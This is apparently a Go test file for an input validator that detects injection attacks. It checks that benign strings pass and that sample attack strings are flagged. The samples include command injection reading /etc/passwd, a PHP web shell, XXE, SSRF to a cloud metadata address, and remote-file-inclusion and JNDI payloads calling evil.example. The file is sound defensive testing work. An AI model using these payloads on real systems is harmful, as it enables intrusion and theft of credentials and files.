package validate_test

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tangoguard/tangoguard/internal/race"
	"github.com/tangoguard/tangoguard/validate"
)

func TestInspectHonestText(t *testing.T) {
	for _, s := range []string{
		"", "O'Brien & Sons", "I <3 you", "AT&T", "100% -- really", "日本語", "👨‍👩‍👧 family", "O’Brien said “hi”",
		"select a gift from the union of both lists", "drop table 5, please", "and 1 = 1, as my teacher said",
		"=) thanks @anna, +1 from me", "Location: town hall\nTime: 5 pm", "From: Grandma\nTo: Tim", "../ are two dots",
		"see https://example.com/a?b=c&d=e#f", "http://localhost stands on my mug", "نقیب\u200cزاده",
	} {
		assert.Nil(t, validate.Inspect(s), "%q", s)
		assert.True(t, validate.Clean(s), "%q", s)
	}
}

func TestInspectFindsEachClass(t *testing.T) {
	examples := map[validate.Class]string{
		validate.ClassXSS:           `<svg onload=alert(1)>`,
		validate.ClassSQLi:          `' UNION SELECT password FROM users--`,
		validate.ClassCmdi:          `; cat /etc/passwd`,
		validate.ClassPathTraversal: `../../etc/passwd`,
		validate.ClassCRLF:          "x\r\nSet-Cookie: a=b",
		validate.ClassFormatString:  `%08x.%08x.%08x.%n`,
		validate.ClassCSVInjection:  `=cmd|' /C calc'!A0`,
		validate.ClassSSRF:          `http://169.254.169.254/latest/meta-data/`,
		validate.ClassRFI:           `/index.php?page=http://evil.example/shell.txt?`,
		validate.ClassUnicode:       "photo\u202egpj.exe",

		validate.ClassNoSQLi:             `{"$gt": ""}`,
		validate.ClassLDAPi:              `*)(uid=*))(|(uid=*`,
		validate.ClassXPath:              `' or '1'='1' or //user[position()=1]`,
		validate.ClassSSTI:               `{{config.__class__.__init__.__globals__}}`,
		validate.ClassEL:                 `${jndi:ldap://evil.example/a}`,
		validate.ClassXXE:                `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>`,
		validate.ClassSSI:                `<!--#exec cmd="id" -->`,
		validate.ClassCodeInjection:      `<?php system($_GET['c']); ?>`,
		validate.ClassDeserialization:    `O:8:"stdClass":1:{s:1:"a";i:1;}`,
		validate.ClassPrototypePollution: `{"__proto__":{"admin":true}}`,
	}
	for _, class := range validate.Classes() {
		if class != validate.ClassLink { // off unless asked for
			assert.Contains(t, examples, class, "no example")
		}
	}
	for class, s := range examples {
		found := validate.Inspect(s)
		require.NotEmpty(t, found, "%s: %q", class, s)
		var classes []validate.Class
		for _, f := range found {
			classes = append(classes, f.Class)
			assert.True(t, 0 <= f.Start && f.Start < f.End && f.End <= len(s), "%q: %+v", s, f)
		}
		assert.Contains(t, classes, class, "%q", s)
		assert.False(t, validate.Clean(s), "%q", s)
	}
}

func TestClassesAreTheConstants(t *testing.T) {
	constants := []validate.Class{
		validate.ClassXSS, validate.ClassSQLi, validate.ClassNoSQLi, validate.ClassCmdi, validate.ClassPathTraversal, validate.ClassLDAPi,
		validate.ClassXPath, validate.ClassSSTI, validate.ClassEL, validate.ClassXXE, validate.ClassSSI, validate.ClassCRLF,
		validate.ClassCodeInjection, validate.ClassDeserialization, validate.ClassPrototypePollution, validate.ClassFormatString,
		validate.ClassCSVInjection, validate.ClassSSRF, validate.ClassRFI, validate.ClassUnicode, validate.ClassLink,
	}
	assert.Equal(t, constants, validate.Classes())
	for _, c := range constants {
		assert.NotEmpty(t, c.CWEs(), "class %s names its weaknesses", c)
	}
	assert.Nil(t, validate.Class("none").CWEs())
}

func TestInspectorChoosesClasses(t *testing.T) {
	const attack = "<svg onload=alert(1)>"
	const page = "read more on www.example.com/offer"

	without := validate.Inspector{}.Without(validate.ClassXSS)
	for _, f := range without.Inspect(attack) {
		assert.NotEqual(t, validate.ClassXSS, f.Class)
	}
	assert.NotContains(t, without.Classes(), validate.ClassXSS)

	links := validate.Inspector{}.With(validate.ClassLink)
	require.Len(t, links.Inspect(page), 1)
	assert.Equal(t, validate.ClassLink, links.Inspect(page)[0].Class)
	assert.False(t, links.Clean(page))
	assert.NotEmpty(t, links.Inspect(attack), "the other classes stay on")

	assert.Empty(t, validate.Inspect(page), "a new Inspector changes no other")
	assert.Equal(t, validate.Classes()[:len(validate.Classes())-1], validate.Inspector{}.Classes())
	assert.Equal(t, validate.Classes(), validate.Inspector{}.With("none", validate.ClassLink).Classes())
}

func TestCleanDoesNotAllocate(t *testing.T) {
	if race.Enabled {
		t.Skip("sync.Pool drops what it gets at random under -race; run without it")
	}
	for _, s := range []string{"Happy birthday, Anna! Love, Tom & Sue", "O’Brien — “hello”", "' or 1=1--"} {
		validate.Clean(s)
		assert.Zero(t, testing.AllocsPerRun(100, func() { validate.Clean(s) }), "%q", s)
	}
}
